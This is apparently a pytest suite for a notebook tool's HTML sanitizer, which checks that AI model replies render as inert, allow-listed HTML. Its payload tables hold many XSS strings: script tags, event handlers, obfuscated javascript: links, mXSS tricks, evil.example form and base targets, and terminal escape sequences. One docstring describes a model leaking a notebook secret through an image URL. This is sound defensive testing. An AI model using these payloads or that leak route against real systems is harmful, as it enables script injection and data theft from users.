"""Issue 11, item 1: model text is rendered to HTML in which nothing can run.

Every assertion parses the output (stdlib html.parser, which decodes entities in
attribute values as a browser does) and checks it against the allow-list written
out here as literals: no element or attribute outside it, no href/src whose scheme
is not http, https or mailto. Payloads are one table; each must also stay visible
as text (escaped, not silently dropped), and every prefix of each is rendered too,
as the streaming view renders a reply that is still arriving.
"""
from __future__ import annotations

from html.parser import HTMLParser
from types import SimpleNamespace

import pytest
from IPython.utils.capture import capture_output

from ocw.notebook import streaming
from ocw.notebook import report
from ocw.text import safe_html
from ocw.text.safe_html import display_bundle, markdown_html, plain_text, tool_call_bundle

@pytest.fixture(autouse=True)
def shell():
    """IPython's display() needs a shell instance (capture_output swaps its publisher)."""
    from IPython.core.interactiveshell import InteractiveShell

    return InteractiveShell.instance()


# The spec's allow-list, spelled out (not read back from the module under test).
TAGS = {"p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "blockquote", "ul", "ol", "li",
        "strong", "em", "s", "del", "code", "pre", "a", "table", "thead", "tbody", "tr", "th", "td",
        "details", "summary"}  # no img: an image loads (and leaks its URL) without a click
ATTRIBUTES = {"a": {"href", "title", "rel"}, "ol": {"start"},
              "details": {"class"}}
SCHEMES = ("http:", "https:", "mailto:")
REL = "noopener noreferrer nofollow"
TOOL_PRE_STYLE = "max-height:24em;overflow:auto"  # ocw's own, the one style allowed (tool view)


class Parsed(HTMLParser):
    """Elements (tag, attrs) and the text a reader sees."""

    def __init__(self, fragment: str):
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text_parts: list[str] = []
        self.other: list[str] = []  # comments, declarations, processing instructions
        self.feed(fragment)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))

    def handle_startendtag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text_parts.append(data)

    def handle_comment(self, data):
        self.other.append(f"comment {data!r}")

    def handle_decl(self, decl):
        self.other.append(f"decl {decl!r}")

    def handle_pi(self, data):
        self.other.append(f"pi {data!r}")

    def unknown_decl(self, data):
        self.other.append(f"unknown {data!r}")

    @property
    def text(self) -> str:
        return "".join(self.text_parts)

    def tags(self, name: str) -> list[dict]:
        return [a for t, a in self.elements if t == name]


def _scheme_ok(value: str | None) -> bool:
    # A browser drops ASCII tab/newline inside a URL and trims spaces/controls at its ends.
    v = "".join(ch for ch in (value or "") if ch not in "\t\n\r").strip("\x00- ").lower()
    return v.startswith(SCHEMES)


def inert(fragment: str, *, tool_view: bool = False) -> Parsed:
    """Parse `fragment` and fail unless it is inside the allow-list."""
    p = Parsed(fragment)
    assert not p.other, f"comment/declaration in output: {p.other} in {fragment!r}"
    for tag, attrs in p.elements:
        assert tag in TAGS, f"<{tag}> is outside the allow-list: {fragment!r}"
        allowed = ATTRIBUTES.get(tag, set()) | ({"style"} if tool_view and tag == "pre" else set())
        extra = set(attrs) - allowed
        assert not extra, f"<{tag}> carries {extra} outside the allow-list: {fragment!r}"
        for name in ("href", "src"):
            if name in attrs:
                assert _scheme_ok(attrs[name]), f"<{tag} {name}={attrs[name]!r}>: scheme not allowed"
        if tag == "a" and "rel" in attrs:
            assert attrs["rel"] == REL
        if tag == "details":
            assert attrs.get("class") == "ocw-tool-call"
        if tag == "pre" and "style" in attrs:
            assert attrs["style"] == TOOL_PRE_STYLE
    return p


# -- the checker itself can fail --------------------------------------------------------------
@pytest.mark.parametrize("bad", [
    "<script>x</script>", "<img src=x onerror=alert(1)>", "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>", "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' java\tscript:alert(1)'>x</a>", "<img src='data:image/png;base64,AA'>",
    "<a href='/relative'>x</a>", "<p id=x>y</p>", "<p style='color:red'>y</p>", "<svg onload=alert(1)>",
    "<iframe srcdoc='x'></iframe>", "<a href='https://a.b' rel='opener'>x</a>", "<!-- c -->",
    "<details class='jp-Cell'>x</details>",
])
def test_the_checker_rejects_active_html(bad):
    with pytest.raises(AssertionError):
        inert(bad)


def test_the_checker_accepts_the_allowed_forms():
    inert(f"<p><a href='https://a.b' rel='{REL}'>x</a> <a href='HTTP://A.B'>y</a> "
          f"<a href='mailto:a@b.c'>z</a></p><ol start='3'><li>x</li></ol>")
    with pytest.raises(AssertionError):  # the checker refuses an image, whatever its URL
        inert("<p><img src='https://a.b/i.png' alt='i'></p>")


# -- payloads: one table ------------------------------------------------------------------------
# (name, model text, what must stay visible as text)
PAYLOADS = [
    ("script", "<script>window.__p=1</script>", "<script>window.__p=1</script>"),
    ("img-onerror", "<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)>"),
    ("details-ontoggle", "<details open ontoggle=alert(1)>x</details>", "<details open ontoggle=alert(1)>"),
    ("iframe-srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>', "<iframe srcdoc="),
    ("svg-onload", "<svg onload=alert(1)><circle r=1 /></svg>", "<svg onload=alert(1)>"),
    ("a-javascript", '<a href="javascript:alert(1)">x</a>', '<a href="javascript:alert(1)">'),
    ("md-javascript", "[x](javascript:alert(1))", "x"),
    ("md-mixed-case", "[x](JaVaScRiPt:alert(1))", "x"),
    ("md-data-html", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "x"),
    ("md-vbscript", "[x](vbscript:msgbox(1))", "x"),
    ("md-img-javascript", "![i](javascript:alert(1))", "i"),
    ("md-img-data", "![i](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)", ""),
    ("entity-scheme", "[x](&#106;avascript:alert(1))", "x"),
    ("hex-entity-scheme", "[x](&#x6A;avascript:alert(1))", "x"),
    ("tab-in-scheme", "[x](java&#x09;script:alert(1))", "x"),
    ("percent-scheme", "[x](%6Aavascript:alert(1))", "x"),
    ("angle-destination", "[x](<javascript:alert(1)>)", "x"),
    ("autolink-javascript", "<javascript:alert(1)>", "javascript:alert(1)"),
    ("reference-link", "[x][r]\n\n[r]: javascript:alert(1)", "x"),
    ("title-breakout", '[x](https://a.b "t\\" onmouseover=\\"alert(1)")', "x"),
    ("protocol-relative", "[x](//evil.example/a)", "x"),
    ("relative-to-jupyter", "[x](/api/contents) ![i](../files/secret.png)", "x"),
    ("file-scheme", "[x](file:///etc/passwd)", "x"),
    ("style", "<style>body{display:none}</style>", "<style>body{display:none}</style>"),
    ("form-action", '<form action="https://evil.example"><button>go</button></form>', "<form action="),
    ("math-mglyph", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<math><mtext>"),
    ("math-href", '<math href="javascript:alert(1)"><mi>x</mi></math>', "<math href="),
    ("object-embed", '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">', "<object"),
    ("base-meta", '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
     "<base href="),
    ("input-autofocus", "<input autofocus onfocus=alert(1)>", "<input autofocus onfocus=alert(1)>"),
    ("dom-clobbering", '<img name="getElementById"><form id="x"></form>', '<img name="getElementById">'),
    ("comment-cdata", "<!-- <img src=x onerror=alert(1)> --><![CDATA[<script>alert(1)</script>]]>", "<!--"),
    ("fenced-html", "```html\n<script>alert(1)</script>\n```", "<script>alert(1)</script>"),
    ("inline-code-html", "`<img src=x onerror=alert(1)>`", "<img src=x onerror=alert(1)>"),
    ("table-cell-html", "| a |\n|---|\n| <img src=x onerror=alert(1)> |", "<img src=x onerror=alert(1)>"),
    ("nested-link-image", "[![i](javascript:alert(1))](javascript:alert(2))", "i"),
    ("noscript-template", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>", "<noscript>"),
]


@pytest.mark.parametrize("name,text,visible", PAYLOADS, ids=[p[0] for p in PAYLOADS])
def test_payload_renders_inert_and_visible(name, text, visible):
    out = markdown_html(text)
    p = inert(out)
    assert visible in p.text, f"{name}: {visible!r} not shown as text in {out!r}"


@pytest.mark.parametrize("name,text,visible", PAYLOADS, ids=[p[0] for p in PAYLOADS])
def test_every_prefix_of_a_payload_is_inert(name, text, visible):
    for end in range(len(text) + 1):
        inert(markdown_html(text[:end]))


# The sanitizer is the last pass whatever markdown-it emits: fed raw HTML directly, it alone
# must hold the allow-list (markdown-it's own link check is not relied on).
RAW_HTML = [
    '<a href="javascript:alert(1)" id="x" name="y" onclick="alert(1)" style="color:red" target="_top">a</a>',
    '<a href="JaVaScRiPt:alert(1)">a</a><a href="&#106;avascript:alert(1)">b</a>',
    '<a href="data:text/html,<script>alert(1)</script>">a</a><img src="data:image/png;base64,AA" onerror="x">',
    '<a href="vbscript:x">a</a><a href="file:///etc/passwd">b</a><a href="/api/contents">c</a>'
    '<a href="//evil.example">d</a>',
    '<img src="javascript:alert(1)"><img src="https://ok.example/i.png" onload="alert(1)" id="i">',
    '<p class="jp-Cell" id="p" title="t">x</p><code class="language-py jp-x">y</code>',
    "<script>alert(1)</script><style>*{}</style><iframe srcdoc='x'></iframe><svg onload=x></svg>"
    "<math><mi href='javascript:x'>m</mi></math><form action='x'><input></form><object data=x></object>",
    "<details open ontoggle=alert(1) class='ocw-tool-call jp-x'><summary onclick=x>s</summary></details>",
    "<a href='https://ok.example' rel='opener'>a</a><base href='https://evil.example'><meta http-equiv=refresh>",
]


@pytest.mark.parametrize("raw", RAW_HTML)
def test_the_sanitizer_alone_holds_the_allow_list(raw):
    inert(safe_html.sanitize(raw))


def test_the_sanitizer_keeps_allowed_links_with_rel():
    p = inert(safe_html.sanitize("<a href='https://ok.example/a' title='t'>a</a><img src='http://ok.example/i.png'>"))
    assert p.tags("a") == [{"href": "https://ok.example/a", "title": "t", "rel": REL}]
    assert p.tags("img") == []  # even an http image: it would load without a click


def test_the_bundle_is_html_and_text_never_markdown():
    text = "**Hi** <img src=x onerror=alert(1)> [x](javascript:alert(1))"
    b = display_bundle(text)
    assert set(b) == {"text/html", "text/plain"}
    assert b["text/plain"] == text
    p = inert(b["text/html"])
    assert p.tags("strong") == [{}] and "<img src=x onerror=alert(1)>" in p.text


# -- positive cases: Markdown still renders -------------------------------------------------------
def test_fenced_code_keeps_its_text_exactly():
    code = "if a < b and c > d:\n    print('&amp; \"q\"')\n<script>alert(1)</script>\n"
    p = inert(markdown_html(f"Look:\n\n```python\n{code}```\n"))
    assert [t for t, _ in p.elements] == ["p", "pre", "code"]
    assert p.text == "Look:\n" + code + "\n"


def test_a_table_renders_as_a_table():
    p = inert(markdown_html("| name | n |\n|:-----|--:|\n| a | 1 |\n| b | 2 |\n"))
    assert [t for t, _ in p.elements] == ["table", "thead", "tr", "th", "th", "tbody", "tr", "td", "td", "tr", "td", "td"]
    assert p.text.split() == ["name", "n", "a", "1", "b", "2"]


@pytest.mark.parametrize("md,href", [
    ("[x](http://example.com/a?b=1&c=2)", "http://example.com/a?b=1&c=2"),
    ("[x](https://example.com/p)", "https://example.com/p"),
    ("[x](HTTPS://EXAMPLE.COM/)", "HTTPS://EXAMPLE.COM/"),
    ("[x](mailto:someone@example.com)", "mailto:someone@example.com"),
    ("<https://example.com/auto>", "https://example.com/auto"),
])
def test_http_https_mailto_links_keep_their_href(md, href):
    (a,) = inert(markdown_html(md)).tags("a")
    assert a == {"href": href, "rel": REL}


def test_an_image_is_a_link_that_waits_for_a_click():
    """A model can put a notebook's secret into an image URL (`![](https://evil/?k=...)`);
    an <img> would send it the moment the reply renders. A link sends nothing unclicked."""
    p = inert(markdown_html('![a chart](https://example.com/c.png?k=sk-123 "Chart")'))
    assert p.tags("img") == []
    assert p.tags("a") == [{"href": "https://example.com/c.png?k=sk-123", "rel": REL}]
    assert "[image: a chart]" in markdown_html('![a chart](https://example.com/c.png)')
    # A scheme that is not allowed loses its link as before; the text stays.
    assert inert(markdown_html("![i](javascript:alert(1))")).tags("a") == []


def test_headings_lists_emphasis_quotes_render():
    md = ("# One\n\n## Two\n\n*em* **strong** ~~gone~~ `code`\n\n- a\n- b\n\n3. c\n4. d\n\n> quoted\n\n---\n")
    p = inert(markdown_html(md))
    tags = [t for t, _ in p.elements]
    for t in ("h1", "h2", "em", "strong", "s", "code", "ul", "li", "ol", "blockquote", "hr"):
        assert t in tags, (t, tags)
    assert p.tags("ol") == [{"start": "3"}]
    assert "gone" in p.text and "quoted" in p.text


# -- nothing the model wrote disappears -------------------------------------------------------------
@pytest.mark.parametrize("marker", ["> ", "- ", "1. ", "> - "])
def test_deep_nesting_falls_back_to_text_and_loses_nothing(marker):
    # markdown-it drops text past its nesting limit; ocw shows such text preformatted.
    for depth in range(1, 41):
        text = marker * depth + "deep words\n\nafter words"
        p = inert(markdown_html(text))
        assert "deep words" in p.text and "after words" in p.text, (marker, depth)
    shallow = inert(markdown_html(marker * 3 + "x"))
    assert "pre" not in [t for t, _ in shallow.elements]  # shallow nesting renders as Markdown
    deep = inert(markdown_html(marker * 40 + "x"))
    assert [t for t, _ in deep.elements] == ["pre"]


def test_a_renderer_failure_falls_back_to_escaped_text(monkeypatch):
    def boom(*a, **k):
        raise RecursionError("too deep")

    monkeypatch.setattr(safe_html._markdown, "parse", boom)
    p = inert(markdown_html("**x** <script>alert(1)</script>"))
    assert [t for t, _ in p.elements] == ["pre"]
    assert p.text == "**x** <script>alert(1)</script>"


def test_plain_text_drops_terminal_control_characters():
    text = "ok\x1b]52;c;ZXZpbA==\x07 \x1b[2Jred\r\nline\rover\ttab\x9b31m\x00end"
    assert plain_text(text) == "ok]52;c;ZXZpbA== [2Jred\nlineover\ttab31mend"
    assert plain_text("plain\nreply\twith tabs") == "plain\nreply\twith tabs"
    assert display_bundle(text)["text/plain"] == plain_text(text)
    assert "\x1b" not in markdown_html(text)


# -- the tool-call view --------------------------------------------------------------------------
def test_tool_call_bundle_shows_payloads_as_text():
    line = '🔧 f({"a": "<img src=x onerror=alert(1)>"}) → ok: <script>alert(1)</script>'
    content = "<details open ontoggle=alert(1)>\n[x](javascript:alert(1))\n<iframe srcdoc=x>\x1b[2J"
    b = tool_call_bundle(line, content)
    assert b["text/plain"] == line
    p = inert(b["text/html"], tool_view=True)
    assert [t for t, _ in p.elements] == ["details", "summary", "code", "pre"]
    assert p.tags("pre") == [{"style": TOOL_PRE_STYLE}]
    assert p.text == line + content.replace("\x1b", "")


def test_show_tool_call_sends_only_the_safe_bundle():
    call = {"name": "read_file", "input": {"path": "<svg onload=alert(1)>"}}
    result = {"content": "<script>alert(1)</script>", "is_error": False}
    with capture_output() as cap:
        report.show_tool_call(call, result, rich=True)
    (out,) = cap.outputs
    assert set(out.data) == {"text/plain", "text/html"}
    p = inert(out.data["text/html"], tool_view=True)
    assert "<script>alert(1)</script>" in p.text and "<svg onload=alert(1)>" in p.text


# -- the streaming view ---------------------------------------------------------------------------
class FakeClock:
    def __init__(self):
        self.now = 1000.0

    def __call__(self):
        return self.now


def test_streaming_every_prefix_sends_only_safe_bundles(monkeypatch):
    # Every delta re-rendered (no pacing): each streamed state is checked, as JupyterLab shows it.
    monkeypatch.setattr(streaming.StreamView, "MIN_INTERVAL", -1.0)
    monkeypatch.setattr(streaming.StreamView, "RENDER_SHARE", 0)
    reply = "".join(text for _, text, _ in PAYLOADS[:12]) + "\n\n| a |\n|---|\n| <b>x</b> |"
    with capture_output() as cap:
        view = streaming.StreamView(rich=True)
        for ch in reply:
            view.on_text(ch)
        view.finish("a note")
    assert len(cap.outputs) == len(reply) + 1  # one display, an update per later delta, the final one
    for out in cap.outputs:
        assert set(out.data) == {"text/html", "text/plain"}, set(out.data)
        inert(out.data["text/html"])
    assert cap.outputs[-1].data["text/plain"] == reply + "\n\n*a note*"


def test_streaming_waits_50ms_or_four_renders_between_updates(monkeypatch):
    clock = FakeClock()
    monkeypatch.setattr(streaming, "time", SimpleNamespace(monotonic=clock))
    cost = {"s": 0.001}

    def bundle(text):
        clock.now += cost["s"]  # the render takes this long
        return {"text/plain": text, "text/html": ""}

    monkeypatch.setattr(streaming.StreamView, "_bundle", staticmethod(bundle))
    with capture_output() as cap:
        view = streaming.StreamView(rich=True)
        view.on_text("a")  # the first delta displays at once
        view.on_text("b")  # then an update right away (nothing shown for 50 ms yet)
        assert len(cap.outputs) == 2
        clock.now += 0.049
        view.on_text("c")
        assert len(cap.outputs) == 2  # just under 50 ms: no update
        clock.now += 0.002
        view.on_text("d")
        assert len(cap.outputs) == 3  # just over: updated
        # A slow render (0.1 s) stretches the wait to four renders: 0.4 s.
        cost["s"] = 0.1
        clock.now += 0.051
        view.on_text("e")
        assert len(cap.outputs) == 4
        clock.now += 0.39
        view.on_text("f")
        assert len(cap.outputs) == 4  # under 0.4 s
        clock.now += 0.02
        view.on_text("g")
        assert len(cap.outputs) == 5  # over 0.4 s
        view.finish()
    assert len(cap.outputs) == 6 and cap.outputs[-1].data["text/plain"] == "abcdefg"  # the end always shows


def test_terminal_streaming_writes_text_without_control_characters(capsys):
    view = streaming.StreamView(rich=False)
    for part in ("Hello \x1b]52;c;", "ZXZpbA==\x07 <script>", "x</script>\r\n"):
        view.on_text(part)
    view.finish()
    assert capsys.readouterr().out == "Hello ]52;c;ZXZpbA== <script>x</script>\n\n"


def test_the_nesting_edge_17_quotes_render_as_markdown_18_fall_back_to_text():
    """MAX_NESTING = 20: a block token at level 19 (18 nested quotes) is where markdown-it would
    start dropping text, so 18 is shown preformatted; 17 (deepest level 18) still renders."""
    ok = inert(markdown_html(">" * 17 + " deep words"))
    assert [t for t, _ in ok.elements].count("blockquote") == 17 and "deep words" in ok.text
    edge = inert(markdown_html(">" * 18 + " deep words"))
    assert [t for t, _ in edge.elements] == ["pre"] and "deep words" in edge.text


def test_a_preview_keeps_160_characters_and_cuts_161_to_159_and_an_ellipsis():
    from ocw.text.safe_html import preview

    assert preview("x" * 160) == "x" * 160
    assert preview("x" * 161) == "x" * 159 + "…"
    assert preview("a \n b\t c") == "a b c"
    assert preview("y" * 61, 60) == "y" * 59 + "…" and preview("y" * 60, 60) == "y" * 60
